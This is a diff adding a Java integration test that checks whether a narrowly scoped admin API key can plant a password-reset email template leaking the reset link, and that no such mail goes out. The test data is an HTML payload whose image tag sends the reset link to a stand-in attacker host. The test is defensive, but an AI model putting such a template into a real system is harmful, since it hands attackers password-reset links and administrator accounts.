@@ -1,0 +1,69 @@
+package org.lumoauth.itests.http;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+
+import java.io.IOException;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+
+/** Whoever was given a part of the administration makes more of it by none of its operations. */
+@ExtendWith(Shared.class)
+class PowerAttacksIT {
+  private Server server;
+  private Tenant tenant;
+
+  @BeforeEach
+  void start(Server shared) throws IOException {
+    server = shared;
+    tenant = Tenant.create(server);
+  }
+
+  @Test
+  void letsNobodyReadLinksWhoWritesTheTenantsMessages() throws Exception {
+    Person boss = administrator();
+    String html =
+        "<p><a href=\"${link}\">Open</a></p><img src=\"https://evil.example/b.gif?x=${link}\">";
+
+    Api.Answer refused =
+        key("admin:settings").put("/admin/email-templates/password-reset", html(html)).expect(422);
+
+    assertEquals("body_html", refused.body().at("/details/field").asText());
+    new Browser(server.base())
+        .open("/t/" + tenant.slug() + "/forgot-password")
+        .submit("identifier", boss.email());
+    assertFalse(Outbox.to(server, boss.email()).contains("evil.example"));
+  }
+
+  private static Map<String, Object> html(String html) {
+    return Map.of("body_html", html);
+  }
+
+  /** Somebody who may do everything here. */
+  private Person administrator() {
+    Person boss = Person.create(server, tenant);
+    tenant
+        .admin()
+        .post("/admin/users/" + boss.id() + "/roles", Map.of("roles", List.of("tenant_admin")))
+        .expect(200);
+    return boss;
+  }
+
+  /** The API with a key of these scopes. */
+  private Api key(String... scopes) {
+    return tenant
+        .admin()
+        .with(
+            "X-API-Key",
+            tenant
+                .admin()
+                .post("/admin/api-keys", Map.of("name", "Part", "scopes", List.of(scopes)))
+                .expect(201)
+                .data()
+                .path("key")
+                .asText());
+  }
+}
